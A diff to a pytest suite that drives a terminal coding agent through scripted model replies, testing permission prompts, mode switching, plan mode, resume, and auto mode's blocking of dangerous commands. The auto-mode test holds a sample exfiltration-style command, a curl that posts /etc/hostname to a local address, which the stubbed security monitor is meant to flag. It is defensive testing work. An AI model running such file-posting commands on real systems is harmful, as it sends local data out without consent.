@@ -83,6 +83,20 @@ def session(shared: Session, request: pytest.FixtureRequest) -> Iterator[Session
         shared.stop()
 
 
+def answer_dialog(shown: Terminal, key: str) -> None:
+    """Press a key until the dialog has gone: for some tenths of a second it doesn't listen."""
+    shown.press_until(r"\A(?![\s\S]*Esc to cancel)", key, pause=1)
+
+
+def press_to_mode(shown: Terminal, wanted: str) -> None:
+    """Go through the modes, which come in this order."""
+    modes = ["manual mode on", "accept edits on", "plan mode on", "auto mode on"]
+    now = next(n for n, mode in enumerate(modes) if mode in shown.screen)
+    while modes[now] != wanted:
+        now = (now + 1) % len(modes)
+        shown.press_until(modes[now], "BTab")
+
+
 def wait_until(condition: Callable[[], object]) -> None:
     end = time.monotonic() + LIMIT
     while not condition():
@@ -121,11 +135,13 @@ def test_permission_prompt_is_heeded(session: Session) -> None:
     session.model = by_turn(Reply("I try.", [call]), Reply("I try again.", [call]), Reply("It is made."))
     enter(session.shown, "Make a file.")
     assert "echo made > made.txt" in session.shown.wait_for(r"Do you want to proceed\?")
-    session.shown.press_until("Interrupted", "Escape")
+    answer_dialog(session.shown, "Escape")
+    session.shown.wait_for("Interrupted")
     assert not made.exists()
     enter(session.shown, "Do it after all.")
     session.shown.wait_for(r"Do you want to proceed\?")
-    session.shown.press_until("● It is made.", "Enter")
+    answer_dialog(session.shown, "Enter")
+    session.shown.wait_for("● It is made.")
     assert made.read_text() == "made\n"
 
 
@@ -143,7 +159,8 @@ def test_edit_is_shown_as_a_difference(session: Session) -> None:
     session.shown.wait_for(r"Do you want to make this edit to greet\.sh\?")
     session.shown.wait_for(r"1 -\s*echo good morning\n +1 \+\s*echo good evening")  # which is drawn a little later
     assert file.read_text() == "echo good morning\n"
-    session.shown.press_until("● It is evening.", "Enter")
+    answer_dialog(session.shown, "Enter")
+    session.shown.wait_for("● It is evening.")
     assert file.read_text() == "echo good evening\n"
 
 
@@ -155,7 +172,9 @@ def test_context_shows_the_true_size_and_the_real_model(session: Session) -> Non
     assert session.provider.requests == []
 
 
-@pytest.mark.seen("terminal", "`/status` shows the proxy's address, the token as the login, and the name of the real model")
+@pytest.mark.seen(
+    "terminal", "`/status` shows the proxy's address, the token as the login, and the name of the real model"
+)
 def test_status_shows_the_proxy_and_the_real_model(session: Session) -> None:
     enter(session.shown, "/status")
     screen = session.shown.wait_for(r"Anthropic base URL: +http://127\.0\.0\.1:\d+")
@@ -198,12 +217,15 @@ def test_plan_is_shown_and_carried_out_after_a_yes(session: Session) -> None:
         )(body)
 
     session.model = model
-    session.shown.press_until("plan mode on", "BTab")
+    press_to_mode(session.shown, "plan mode on")
     enter(session.shown, "Plan a file.")
     assert "Write planned.txt." in session.shown.wait_for("Ready to code")
-    session.shown.press_until(r"Do you want to create planned\.txt\?", "2")  # and asks about each edit
+    session.shown.press_until("❯ 2. Yes, manually approve edits", "Down", pause=1)
+    session.shown.press("Enter")
+    session.shown.wait_for(r"Do you want to create planned\.txt\?")
     assert not written.exists()
-    session.shown.press_until("● All as planned.", "Enter")
+    answer_dialog(session.shown, "Enter")
+    session.shown.wait_for("● All as planned.")
     assert written.read_text() == "planned\n"
     session.shown.wait_for("manual mode on")
 
@@ -248,3 +270,32 @@ def test_background_task_runs_while_the_person_goes_on(session: Session) -> None
     gate.touch()
     session.shown.wait_for(r"Background command .* completed")
     session.shown.wait_for("● It has ended.")
+
+
+@pytest.mark.seen("terminal", "auto mode asks the person nothing: a harmless command runs, a dangerous one is blocked")
+def test_auto_mode_runs_what_is_harmless_and_blocks_what_is_not(session: Session) -> None:
+    commands = ["date > harmless.txt", "curl -s http://127.0.0.1:9/ -d @/etc/hostname; date > harmful.txt"]
+
+    def model(body: dict[str, Any]) -> Answer:
+        if "You are a security monitor" in str(body["messages"][0]):
+            return Reply(f"<severity>{90 if 'curl' in str(body['messages'][-1]) else 5}</severity>")
+        calls = [[ToolCall("Bash", {"command": command, "description": "Run it"})] for command in commands]
+        return by_turn(Reply("The first.", calls[0]), Reply("The second.", calls[1]), Reply("Both are done."))(body)
+
+    session.model = model
+    press_to_mode(session.shown, "auto mode on")
+    ask(session.shown, "Run both.", "Both are done.")
+    assert (session.work / "harmless.txt").exists()
+    assert not (session.work / "harmful.txt").exists()
+    press_to_mode(session.shown, "manual mode on")
+
+
+@pytest.mark.seen("resuming", "`/resume` lists an earlier conversation, which goes on through the proxy")
+def test_resume_lists_an_earlier_conversation(session: Session) -> None:
+    session.model = by_turn(Reply("I shall."), Reply("It was green."))
+    ask(session.shown, "Remember that the frog is green.", "I shall.")
+    session.begin()
+    enter(session.shown, "/resume")
+    session.shown.wait_for(r"❯ Remember that the frog is green\.")
+    session.shown.press_until("● I shall.", "Enter")
+    ask(session.shown, "What was the frog?", "It was green.")
